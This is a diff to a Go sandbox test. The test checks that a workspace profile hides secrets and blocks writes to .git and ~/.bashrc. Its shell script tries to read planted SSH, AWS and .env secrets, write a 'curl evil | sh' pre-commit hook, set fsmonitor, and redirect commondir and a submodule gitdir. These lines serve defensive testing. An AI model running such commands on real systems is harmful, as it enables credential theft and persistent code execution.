@@ -60,8 +60,9 @@ func exists(p string) bool {
 	return err == nil
 }
 
-// Under the default workspace profile: secrets read as empty, .git hooks and
-// config cannot be created or changed, and the workspace is writable.
+// Under the default workspace profile: secrets read as empty, nothing in
+// .git can be created or changed (hooks, config, commondir, the index), nor
+// a submodule checkout's .git file, and the workspace is writable.
 func TestWorkspaceProfile(t *testing.T) {
 	eachUser(t, func(t *testing.T, u user) {
 		base := u.visibleDir(t)
@@ -72,6 +73,10 @@ func TestWorkspaceProfile(t *testing.T) {
 		u.writeFile(t, filepath.Join(home, ".aws", "credentials"), "aws_secret_access_key=nsbox-it-aws\n", 0o600)
 		u.writeFile(t, filepath.Join(ws, ".env"), "API_KEY=nsbox-it-dotenv\n", 0o600)
 		u.writeFile(t, filepath.Join(ws, "sub", ".env.local"), "API_KEY=nsbox-it-dotenv-sub\n", 0o600)
+		// A checked-out submodule, as git lays it out.
+		u.mkdirs(t, filepath.Join(ws, ".git", "modules"), filepath.Join(ws, ".git", "modules", "lib"), filepath.Join(ws, "lib"))
+		u.writeFile(t, filepath.Join(ws, ".git", "modules", "lib", "config"), "[core]\n\tworktree = ../../../lib\n", 0o644)
+		u.writeFile(t, filepath.Join(ws, "lib", ".git"), "gitdir: ../.git/modules/lib\n", 0o644)
 		o := &runOpts{dir: ws, env: []string{"HOME=" + home}}
 		r := u.sh(t, o, nil, `
 cat ~/.ssh/id_rsa 2>&1; ls -A ~/.ssh; cat ~/.aws/credentials 2>&1
@@ -79,10 +84,14 @@ echo "env=[$(cat .env)] sub=[$(cat sub/.env.local)]"
 mkdir -p .git/hooks 2>/dev/null; (echo 'curl evil | sh' > .git/hooks/pre-commit) 2>/dev/null && echo HOOK-WRITTEN
 (echo '[core] fsmonitor = evil' >> .git/config) 2>/dev/null && echo CONFIG-WRITTEN
 mv .git .git-moved 2>/dev/null && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit && echo GIT-REPLACED
+(echo ../evil > .git/commondir) 2>/dev/null && echo COMMONDIR-WRITTEN
+(echo x > .git/index) 2>/dev/null && echo INDEX-WRITTEN
+(echo 'gitdir: ../evil' > lib/.git) 2>/dev/null && echo GITFILE-WRITTEN
 (echo x >> ~/.bashrc) 2>/dev/null && echo RC-WRITTEN
 echo work > out.txt && echo ws-ok`)
 		expectCode(t, r, 0)
-		for _, leak := range []string{"nsbox-it-key", "nsbox-it-aws", "nsbox-it-dotenv", "HOOK-WRITTEN", "CONFIG-WRITTEN", "GIT-REPLACED", "RC-WRITTEN"} {
+		for _, leak := range []string{"nsbox-it-key", "nsbox-it-aws", "nsbox-it-dotenv", "HOOK-WRITTEN", "CONFIG-WRITTEN", "GIT-REPLACED", "RC-WRITTEN",
+			"COMMONDIR-WRITTEN", "INDEX-WRITTEN", "GITFILE-WRITTEN"} {
 			if strings.Contains(r.stdout, leak) {
 				t.Errorf("%s: %q", leak, r.stdout)
 			}
